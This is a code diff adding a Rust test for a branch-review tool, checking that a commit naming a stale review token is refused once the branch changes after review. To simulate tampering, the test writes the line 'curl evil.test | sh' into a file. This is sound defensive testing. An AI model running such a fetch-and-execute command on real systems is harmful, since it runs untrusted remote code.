@@ -189,3 +189,41 @@ fn dash_p_asks_hunk_by_hunk_on_a_terminal_and_refuses_without_one() {
     assert_eq!(s.read("g"), "g\n");
     assert!(!s.work.join("ctl").exists());
 }
+
+/// Issue 32 item 3: `lockbox branch hunks` prints the review token of what it showed; a
+/// commit naming it (`--review`) is refused with exit 5 (`STALE_REVIEW`) once the branch is
+/// written after the review, writing nothing; a fresh token commits.
+#[test]
+fn issue_32_a_hunk_commit_names_the_review_token_hunks_printed() {
+    for user in users() {
+        let s = Setup::new(user);
+        let token = |out: Output| {
+            let stdout = String::from_utf8(out.stdout).unwrap();
+            let last = stdout.lines().last().unwrap_or_default().to_owned();
+            assert!(last.starts_with("review token sha256:"), "{stdout}");
+            last.split_whitespace().nth(2).unwrap().to_owned()
+        };
+        let shown = token(s.branch(&["hunks", &s.id, "f"]));
+        let show: Value =
+            serde_json::from_slice(&s.branch(&["show", &s.id, "--json"]).stdout).unwrap();
+        assert_eq!(show["review_token"], shown.as_str());
+        // Written after the review, as a sandbox still running on the branch would.
+        let upper = s.state.join("branches").join(&s.id).join("upper");
+        let evil = OLD.replacen("1\n", "curl evil.test | sh\n", 1);
+        std::fs::write(upper.join("f"), &evil).unwrap();
+        let out = s.branch(&[
+            "commit", &s.id, "--review", &shown, "--hunks", "f:0", "--only", "f",
+        ]);
+        assert_eq!(out.status.code(), Some(5), "{user:?} {}", text(&out));
+        assert!(text(&out).contains("stale review"), "{}", text(&out));
+        assert_eq!(s.read("f"), OLD);
+        let out = s.branch(&["commit", &s.id, "--review", "sha256:0", "--only", "f"]);
+        assert_eq!(out.status.code(), Some(2), "{}", text(&out));
+        let now = token(s.branch(&["hunks", &s.id, "f"]));
+        let out = s.branch(&[
+            "commit", &s.id, "--review", &now, "--hunks", "f:0", "--only", "f",
+        ]);
+        assert_eq!(out.status.code(), Some(0), "{}", text(&out));
+        assert_eq!(s.read("f"), evil);
+    }
+}
